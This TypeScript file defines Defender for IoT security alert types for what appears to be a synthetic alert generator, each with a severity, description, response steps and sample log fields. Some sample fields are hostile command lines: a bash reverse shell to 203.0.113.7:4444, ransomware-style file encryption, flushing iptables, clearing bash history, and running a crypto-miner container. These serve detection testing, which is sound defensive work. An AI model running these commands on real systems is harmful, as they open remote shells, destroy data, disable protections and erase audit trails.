import type { Random } from './random.ts';

/** Severity words of Sentinel. */
export type Severity = 'High' | 'Medium' | 'Low' | 'Informational';

/** One kind of alert. */
export interface AlertKind {
  name: string;
  severity: Severity;
  /** `AlertType` of the row. */
  type: string;
  /** Is it about the hub itself or about one of its devices? */
  about: 'hub' | 'device';
  description: string;
  steps: readonly string[];
  /** Extra `ExtendedProperties`, by the words that real rows use. */
  details(random: Random): Record<string, string>;
}

const nothing = () => ({});

const onHub = (
  name: string,
  severity: Severity,
  type: string,
  description: string,
  steps: readonly string[],
): AlertKind => ({ name, severity, type, about: 'hub', description, steps, details: nothing });

const onDevice = (
  name: string,
  severity: Severity,
  type: string,
  description: string,
  steps: readonly string[],
  details: AlertKind['details'] = nothing,
): AlertKind => ({ name, severity, type, about: 'device', description, steps, details });

const login = (random: Random) => ({
  'Remote Address': `10.20.${random.below(8)}.${1 + random.below(250)}`,
  'Remote Port': String(40_000 + random.below(20_000)),
  'Local Port': '22',
  'Login Shell': '/bin/su',
  'Login Process Id': String(1000 + random.below(30_000)),
  'User Name': random.pick(['root', 'admin', 'service', 'attacker']),
});

const command = (line: string) => () => ({ 'Command Line': line, 'User Name': 'root' });

/**
 * Defender for IoT's alerts for hubs and devices. Names, severities and types of hub alerts are those of
 * Microsoft Learn ("Defender for IoT device builders: security alerts"); types of device alerts follow the
 * documented pattern `IoT_<Words>`.
 */
export const alertKinds: readonly AlertKind[] = [
  onHub(
    'New certificate added to an IoT Hub',
    'Medium',
    'IoT_CertificateSuccessfullyAddedToHub',
    'A certificate was added to the IoT Hub. If an unauthorized party did it, it may point to malicious activity.',
    [
      'Make sure that an authorized party added the certificate.',
      'If not, remove it and tell your security team.',
    ],
  ),
  onHub(
    'Certificate deleted from an IoT Hub',
    'Medium',
    'IoT_CertificateSuccessfullyDeletedFromHub',
    'A certificate was deleted from the IoT Hub. If an unauthorized party did it, it may point to malicious activity.',
    [
      'Make sure that an authorized party removed the certificate.',
      'If not, add it again and tell your security team.',
    ],
  ),
  onHub(
    'Unsuccessful attempt detected to add a certificate to an IoT Hub',
    'Medium',
    'Hub_CertificateFailedToBeAddedToHub',
    'There was an unsuccessful attempt to add a certificate to the IoT Hub.',
    ['Make sure that only authorized parties hold rights to change certificates.'],
  ),
  onHub(
    'Unsuccessful attempt detected to delete a certificate from an IoT Hub',
    'Medium',
    'IoT.Hub_CertificateFailedToBeDeletedFromHub',
    'There was an unsuccessful attempt to delete a certificate from the IoT Hub.',
    ['Make sure that only authorized parties hold rights to change certificates.'],
  ),
  onDevice(
    'x.509 device certificate thumbprint mismatch',
    'Medium',
    'IoT_Cert_Print_Mismatch',
    'The thumbprint of a device certificate does not match the configuration.',
    ['Review the alerts on the device. No further action is required.'],
  ),
  onDevice('x.509 certificate expired', 'Medium', 'IoT_Cert_Expired', 'A device certificate has expired.', [
    'Renew the certificate of the device.',
  ]),
  onHub(
    'Attempt to add or edit a diagnostic setting of an IoT Hub detected',
    'Low',
    'IoT_DiagnosticSettingAddedOrEditedOnHub',
    'There was an attempt to add or edit the diagnostic settings of the IoT Hub.',
    ['Make sure that an authorized party changed the setting.'],
  ),
  onHub(
    'Attempt to delete a diagnostic setting from an IoT Hub detected',
    'Low',
    'IoT_DiagnosticSettingDeletedFromHub',
    'There was an attempt to delete a diagnostic setting of the IoT Hub.',
    ['Make sure that an authorized party removed the setting.'],
  ),
  onDevice('Expired SAS Token', 'Low', 'IoT_Expired_SAS_Token', 'A device used an expired SAS token.', [
    'Review the alerts on the device. No further action is required.',
  ]),
  onDevice(
    'Invalid SAS token signature',
    'Low',
    'IoT_Invalid_SAS_Token',
    'A SAS token of a device has an invalid signature: it matches neither the primary nor the secondary key.',
    ['Review the alerts on the devices.'],
  ),
  onDevice(
    'Successful local login',
    'High',
    'IoT_SuccessfulLocalLogin',
    'A successful local sign in to the device was detected.',
    ['Make sure that the signed in user is an authorized party.'],
    login,
  ),
  onDevice(
    'Brute force attack succeeded',
    'High',
    'IoT_SuccessfulBruteforce',
    'Several unsuccessful sign ins were followed by a successful one.',
    ['Review the password policy of the device.', 'Change the password and check the device.'],
    (random) => ({
      'Full Source Address': `["10.165.12.${random.below(250)}:"]`,
      'User Names': '["service"]',
    }),
  ),
  onDevice(
    'Reverse shells',
    'High',
    'IoT_ReverseShell',
    'Host data on the device shows a potential reverse shell.',
    ['Review with the user who ran the command whether this was legitimate.', 'If not, isolate the device.'],
    command('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'),
  ),
  onDevice(
    'Behavior similar to ransomware detected',
    'High',
    'IoT_Ransomware',
    'Files were run that resemble known ransomware.',
    ['Review with the user who ran the command.', 'Isolate the device and restore it from a known image.'],
    command('openssl enc -aes-256-cbc -in /data -out /data.locked'),
  ),
  onDevice(
    'Crypto coin miner image',
    'High',
    'IoT_CryptoMinerContainer',
    'A container with an image known for mining digital currency was run.',
    [
      'If this was not intended, delete the container image.',
      'Make sure that the Docker daemon is not open.',
    ],
    command('docker run -d xmrig/xmrig'),
  ),
  onDevice(
    'Disable firewall',
    'High',
    'IoT_DisableFirewall',
    'The on-host firewall may have been manipulated.',
    ['Review with the user who ran the command whether this was legitimate.'],
    command('iptables -F'),
  ),
  onDevice(
    'Failed local login',
    'Medium',
    'IoT_FailedLocalLogin',
    'A failed local sign in attempt to the device was detected.',
    ['Make sure that no unauthorized party has physical access to the device.'],
    login,
  ),
  onDevice(
    'Privileged container detected',
    'Medium',
    'IoT_PrivilegedContainer',
    'Machine logs show that a privileged container is running.',
    ['If the container does not need to run in privileged mode, remove the privileges.'],
    command('docker run --privileged'),
  ),
  onDevice(
    'Suspicious IP address communication',
    'Medium',
    'IoT_SuspiciousIpCommunication',
    'Communication with a suspicious IP address was detected.',
    ['Verify that the connection is legitimate.', 'Consider to block it.'],
    (random) => ({ 'Remote Address': `203.0.113.${1 + random.below(250)}`, Port: '8443', Protocol: 'TCP' }),
  ),
  onDevice(
    'Bash history cleared',
    'Low',
    'IoT_BashHistoryCleared',
    'The Bash history log was cleared; attackers do this to erase their tracks.',
    ['Review the activity with the user who ran the command.'],
    command('history -c'),
  ),
];

/** Alerts of other products that share the table; a bot for IoT must not show them. */
export const foreignKinds: readonly AlertKind[] = [
  onHub(
    'Suspicious process executed',
    'High',
    'VM_SuspiciousProcess',
    'Machine logs show a suspicious process on the virtual machine.',
    ['Review the process with the owner of the machine.'],
  ),
  onHub(
    'Unusual number of sign ins',
    'Informational',
    'VM_UnusualSignIns',
    'There were more sign ins to the virtual machine than usual.',
    ['No action is required.'],
  ),
];
